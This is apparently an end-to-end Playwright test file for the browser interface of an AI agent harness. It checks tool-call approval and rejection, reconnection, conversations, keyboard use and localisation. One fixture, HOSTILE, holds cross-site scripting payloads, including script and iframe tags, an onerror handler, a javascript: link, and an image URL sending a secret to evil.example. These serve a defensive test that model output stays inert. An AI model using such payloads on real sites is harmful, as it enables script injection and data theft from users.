"""Stories of people at the page, in a real browser, with a real server behind it."""

from __future__ import annotations

import json
import re
import socket

from playwright.sync_api import expect

from tests.e2e import over_http
from tests.e2e.command_line import Home
from tests.e2e.page.conftest import Chromium
from tests.e2e.page.steps import begin, served
from tests.law import law

QUESTION = "How do tidal lagoons compare with offshore wind on cost and reliability?"

LETTER = """
- {when: {turn: 0}, call: {tool: send, arguments: {to: ann, body: Hello}}}
- {say: "Done."}
"""

HOLD = """
- {when: {turn: 0}, call: {tool: hold, arguments: {}}}
- {say: "Held."}
"""

HOSTILE = """
- say: |
    <script>document.title = "taken"</script> <img src=x onerror="document.title='taken'">
    ![pixel](https://evil.example/p.png?secret=1) [click](javascript:document.title='taken')

    ```
    <iframe src="https://evil.example"></iframe>
    ```
"""

COUNT = """
- {when: {turn: 539}, say: Enough.}
- {call: {tool: count, arguments: {}}, repeat: true}
"""

COUNTING = """
import itertools

from outlast.tools import tool

numbers = itertools.count()


@tool(effect="read", cache_seconds=0)
async def count() -> str:
    \"\"\"Count on.\"\"\"
    return f"number {next(numbers)}"
"""


@law("DOOR-2.b", "DOOR-2.c", "DOOR-2.e")
def test_a_stranger_asks_leaves_and_comes_back_to_the_cited_report(library: Home, chromium: Chromium) -> None:
    _, address = served(library)
    with chromium.at(address) as page:
        begin(page, QUESTION, "brief")
        run = page.url
    with chromium.at(address) as page:
        page.locator("main").get_by_role("link", name=QUESTION).click()
        page.get_by_text("This run has ended.").wait_for()
        assert page.url.split("?")[0] == run.split("?")[0]
        page.get_by_role("tab", name="Plan").click()
        expect(page.locator("main ol > li").filter(has_text="After s1")).not_to_have_count(0)
        page.get_by_role("tab", name="Report").click()
        page.get_by_role("button", name="[S1]").first.click()
        sheet = page.get_by_role("dialog")
        quoted = sheet.locator("mark").inner_text()
        expect(sheet.locator("mark")).to_be_in_viewport()
        assert len(quoted) > 20
        assert quoted in sheet.inner_text()
        sheet.get_by_role("button", name="Go to step").click()
        page.keyboard.press("Escape")
        expect(page.get_by_role("tab", name="Timeline")).to_have_attribute("data-state", "active")
        expect(page.locator("main ol li button[aria-expanded=true]")).to_be_visible()


@law("DOOR-2.d")
def test_a_person_changes_what_a_tool_is_to_do_and_agrees(talking: Home, chromium: Chromium) -> None:
    talking.write(
        "tasks/talk.yaml", "task: {name: talk, workflow: chat, tools: [send], approvals: [{tool: send}]}\n"
    )
    talking.write("script.yaml", LETTER)
    _, address = served(talking)
    with chromium.at(address) as page:
        begin(page, "Write to Ann")
        card = page.get_by_role("region", name="May send run with this?")
        assert json.loads(card.locator("pre").inner_text()) == {"to": "ann", "body": "Hello"}
        card.get_by_role("button", name="Change the arguments").click()
        card.get_by_label("Arguments as JSON").fill("{not json")
        card.get_by_role("button", name="Approve as changed").click()
        card.get_by_text("This is not a JSON object. Nothing was sent.").wait_for()
        card.get_by_label("Arguments as JSON").fill('{"to": "ann", "body": "Good day"}')
        card.get_by_role("button", name="Approve as changed").click()
        page.get_by_text("This run has ended.").wait_for()
        expect(card).to_have_count(0)
    assert (talking.folder / "sent.txt").read_text() == "ann: Good day\n"


def test_what_a_person_refuses_is_not_done_and_the_model_hears_why(talking: Home, chromium: Chromium) -> None:
    talking.write(
        "tasks/talk.yaml", "task: {name: talk, workflow: chat, tools: [send], approvals: [{tool: send}]}\n"
    )
    talking.write("script.yaml", LETTER)
    _, address = served(talking)
    with chromium.at(address) as page:
        begin(page, "Write to Ann")
        card = page.get_by_role("region", name="May send run with this?")
        card.get_by_label("A comment").fill("She is away")
        card.get_by_role("button", name="Reject").click()
        page.get_by_text("This run has ended.").wait_for()
        run_id = page.url.split("?")[0].rpartition("/")[2]
    trace = over_http.get(f"{address}/api/runs/{run_id}/trace").json()["lines"]
    assert not (talking.folder / "sent.txt").exists()
    assert any(line["kind"] == "ToolAnswered" and "She is away" in json.dumps(line) for line in trace)


@law("DOOR-1.b")
def test_an_open_page_catches_up_after_the_server_was_killed_and_started_again(
    talking: Home, chromium: Chromium
) -> None:
    talking.write("script.yaml", HOLD)
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = str(free.getsockname()[1])
    words = ("serve", "--port", port, "--set", "harness.lease_seconds=1")
    first = talking.start(*words)
    address = first.until("Listening on").split()[2]
    with chromium.at(address) as page:
        begin(page, "Hold on")
        page.get_by_role("tab", name="Timeline").click()
        page.get_by_label("Show bookkeeping").check()
        page.get_by_text("tool asked").wait_for()
        first.kill()
        page.get_by_text("The connection is interrupted").wait_for()
        talking.write("go", "")
        talking.start(*words).until("Listening on")
        page.get_by_text("This run has ended.").wait_for()
        run_id = page.url.split("?")[0].rpartition("/")[2]
        kept = len(over_http.get(f"{address}/api/runs/{run_id}/trace").json()["lines"])
        expect(page.get_by_text(f"{kept} of {kept} events")).to_be_visible()
        expect(page.locator("main ol li").last).to_contain_text(str(kept))


def test_two_tabs_show_the_same_and_hear_what_is_said_in_one(talking: Home, chromium: Chromium) -> None:
    talking.write("script.yaml", HOLD)
    _, address = served(talking)
    with chromium.at(address) as left:
        begin(left, "Hold on")
        with chromium.at(address, left.url.removeprefix(address)) as right:
            right.get_by_role("tab", name="Timeline").click()
            left.get_by_role("button", name="Say something").click()
            left.get_by_label("Tell the run something").fill("Only the north side")
            left.get_by_role("button", name="Send").click()
            right.get_by_text("Only the north side").wait_for()
            right.on("dialog", lambda dialog: dialog.accept())
            right.get_by_role("button", name="Cancel the run").click()
            left.get_by_text("This run has ended.").wait_for()
            expect(left.get_by_text("cancelled", exact=True).first).to_be_visible()


@law("DOOR-2.a")
def test_a_conversation_goes_on_turn_by_turn(talking: Home, chromium: Chromium) -> None:
    talking.write("script.yaml", "- {when: {contains: more}, say: Of course.}\n- {say: '**Hello** there.'}\n")
    _, address = served(talking)
    with chromium.at(address) as page:
        begin(page, "Hi")
        answer = page.get_by_role("tabpanel", name="Report")
        expect(answer.locator("strong")).to_have_text("Hello")
        page.get_by_text("This run has ended.").wait_for()
        page.get_by_role("link", name="Conversation").click()
        said = page.get_by_role("list", name="What was said").get_by_role("listitem")
        expect(said).to_have_count(2)
        expect(said.last.locator("strong")).to_have_text("Hello")
        page.get_by_label("Ask a question").fill("Tell me more")
        page.get_by_role("button", name="Start", exact=True).click()
        expect(said).to_have_count(4)
        expect(said.last).to_contain_text("Of course.")
        page.on("dialog", lambda dialog: dialog.accept())
        page.get_by_role("button", name="Delete").click()
        page.get_by_role("heading", name="What should be done?").wait_for()
        expect(page.get_by_role("navigation", name="Conversations")).to_have_count(0)


def test_a_conversation_shows_its_own_run_at_work_and_no_other(talking: Home, chromium: Chromium) -> None:
    talking.write("script.yaml", HOLD)
    _, address = served(talking)
    with chromium.at(address) as page:
        for words in ("Hold the first", "Hold the second"):
            page.goto(address)
            begin(page, words)
        page.get_by_role("link", name="Conversation").click()
        open_run = page.get_by_role("link", name="Open the run")
        open_run.first.wait_for()
        expect(open_run).to_have_count(1)
        expect(page.get_by_role("list", name="What was said").get_by_role("listitem")).to_have_count(1)


def test_a_conversation_shows_what_a_run_said_that_came_and_went_between_two_looks(
    talking: Home, chromium: Chromium
) -> None:
    talking.write(
        "script.yaml", "- {when: {contains: Come}, say: It came and went.}\n- {say: Hello., repeat: true}\n"
    )
    thread = talking.outlast("run", "--task", "talk", "--input", "Hi", "--json").document["thread_id"]
    _, address = served(talking)
    with chromium.at(address) as page:
        page.clock.install()
        page.goto(f"{address}/threads/{thread}")
        page.get_by_text("Hello.").wait_for()
        page.wait_for_load_state("networkidle")
        told = {"task": "talk", "input": "Come"}
        run_id = over_http.post(f"{address}/api/threads/{thread}/runs", json=told).json()["run_id"]
        assert "COMPLETED" in over_http.get(f"{address}/api/runs/{run_id}/events").text
        page.clock.fast_forward(20_000)
        page.get_by_text("It came and went.").wait_for()


@law("SAFE-1.a")
def test_words_of_a_model_stay_words(talking: Home, chromium: Chromium) -> None:
    talking.write("script.yaml", HOSTILE)
    _, address = served(talking)
    with chromium.at(address) as page:
        begin(page, "Attack")
        page.get_by_text("This run has ended.").wait_for()
        page.get_by_role("tab", name="Report").click()
        page.get_by_text("Image “pixel”, not loaded").wait_for()
        page.get_by_role("link", name="Conversation").click()
        page.get_by_text("Image “pixel”, not loaded").wait_for()
        assert page.title() == "outlast"
        assert page.locator("main script, main img, main iframe").count() == 0
        assert page.locator("main a[href^='javascript']").count() == 0


@law("DOOR-2.k")
def test_everything_can_be_done_by_keyboard(talking: Home, chromium: Chromium) -> None:
    talking.write("script.yaml", '- {say: "Hello."}\n')
    _, address = served(talking)
    with chromium.at(address) as page:
        page.get_by_label("Ask a question").wait_for()
        page.keyboard.press("Tab")
        expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
        page.keyboard.press("Enter")
        page.keyboard.press("Tab")
        expect(page.get_by_label("Ask a question")).to_be_focused()
        page.keyboard.type("Hi")
        page.keyboard.press("Tab")
        page.keyboard.type("talk")
        page.keyboard.press("Shift+Tab")
        page.keyboard.press("Control+Enter")
        page.get_by_text("This run has ended.").wait_for()
        page.get_by_role("tab", name="Timeline").focus()
        page.keyboard.press("ArrowRight")
        expect(page.get_by_role("tab", name="Cost")).to_be_focused()


def test_a_run_of_two_thousand_events_draws_only_what_is_in_sight(talking: Home, chromium: Chromium) -> None:
    talking.write("tools/counting.py", COUNTING)
    talking.write("script.yaml", COUNT)
    talking.write("tasks/talk.yaml", "task: {name: talk, workflow: chat, tools: [count], max_steps: 540}\n")
    done = talking.outlast("run", "--task", "talk", "--input", "Count", "--json")
    assert done.code == 0, done.out
    run_id = done.document["run_id"]
    _, address = served(talking)
    with chromium.at(address, f"/runs/{run_id}?tab=timeline") as page:
        page.get_by_text("This run has ended.").wait_for()
        page.get_by_label("Show bookkeeping").check()
        expect(page.get_by_text("2,0").first).to_be_visible()
        assert page.locator("main ol li").count() < 100
        page.get_by_label("Search the events").fill("number 321")
        expect(page.get_by_text(re.compile(r"^[1-5] of 2,\d+ events$"))).to_be_visible()


@law("DOOR-2.h", "DOOR-2.l", "DOOR-2.m")
def test_another_language_theme_and_width(library: Home, chromium: Chromium) -> None:
    _, address = served(library)
    narrow = {"viewport": {"width": 390, "height": 780}, "color_scheme": "dark", "locale": "zh-CN"}
    with chromium.at(address, "/runs", **narrow) as page:
        page.get_by_role("heading", name="运行").wait_for()
        assert page.evaluate("document.documentElement.dataset.theme") == "dark"
        assert page.evaluate("document.documentElement.lang") == "zh-CN"
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        page.get_by_label("语言").select_option("en")
        page.get_by_role("heading", name="Runs").wait_for()
        page.reload()
        page.get_by_role("heading", name="Runs").wait_for()
